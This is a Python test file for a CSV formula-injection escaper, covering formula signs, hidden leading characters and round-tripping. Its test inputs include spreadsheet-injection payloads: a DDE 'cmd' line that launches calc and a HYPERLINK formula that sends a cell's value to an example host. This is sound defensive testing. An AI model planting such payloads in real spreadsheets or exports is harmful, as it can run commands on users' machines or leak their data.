"""Cells that a spreadsheet may open, re-read as a spreadsheet would."""

import csv
import io

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from tui_evals.text.safe import csv_line, escape_formula

SIGNS = "=+-@＝＋－＠﹦﹢﹣﹫"
BEFORE = ["", " ", "   ", "\u00a0", "\u3000", '"', ' "', "\ufeff", "\u200b", "\x00", "\x0b", "\x1f", "\n"]
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.com?"&A1,"see")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "＝1+1",
    "-1-1",
    "-1e",
    "--1",
    "+٣",
    "-1_000",
    "-inf",
    "-",
    "=",
]
NUMBERS = ["-5", "+5", "-0.25", "-.5", "-5.", "-1e-05", "+1E+30", "-0", "12", "0.5"]
PLAIN = ["", "a = b", "a-b", "a@b.c", "'=1", "#1", "1-1", "1+1", "–5", "→", "yes"]


def begins_a_formula(cell):
    """Whether the cell begins with what a spreadsheet runs, once what it may drop before is gone."""
    if cell[:1] in ("\t", "\r", "\n") and cell:
        return True
    bare = cell.lstrip(' \t\r\n\x0b\x0c\u00a0\u3000\ufeff\u200b\x00\x1f"')
    return bare[:1] in tuple(SIGNS)


def reread(text):
    csv.field_size_limit(2**31 - 1)
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("before", BEFORE)
@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_gets_a_quote_before_it_wherever_it_hides(before, formula):
    assert escape_formula(before + formula) == "'" + before + formula


@pytest.mark.parametrize("start", ["\t", "\r", "\n", "\r\n"])
def test_a_cell_that_begins_with_a_tab_or_a_line_break_gets_a_quote(start):
    assert escape_formula(start + "harmless") == "'" + start + "harmless"


@pytest.mark.parametrize("cell", NUMBERS + PLAIN)
def test_numbers_and_plain_text_stay_as_they_are(cell):
    assert escape_formula(cell) == cell


@given(st.text(st.sampled_from(SIGNS + " \t\r\n\"'a1.e,;\ufeff\u200b\x00")) | st.text())
@example("-5\n")
def test_no_guarded_cell_begins_a_formula_and_nothing_is_lost(cell):
    (row,) = reread(csv_line(["first", escape_formula(cell)]))
    assert row[1] in (cell, "'" + cell)
    assert not begins_a_formula(row[1]) or float(row[1]) is not None


@given(st.lists(st.text(st.sampled_from('a,;"\r\n\t =')) | st.text(), min_size=2, max_size=5))
def test_every_line_reads_back_as_the_cells_it_was_made_of(cells):
    assert reread(csv_line(cells)) == [cells]


def test_a_lone_carriage_return_does_not_let_a_formula_begin_a_row():
    assert reread(csv_line(["a\r=1+1", "b"])) == [["a\r=1+1", "b"]]
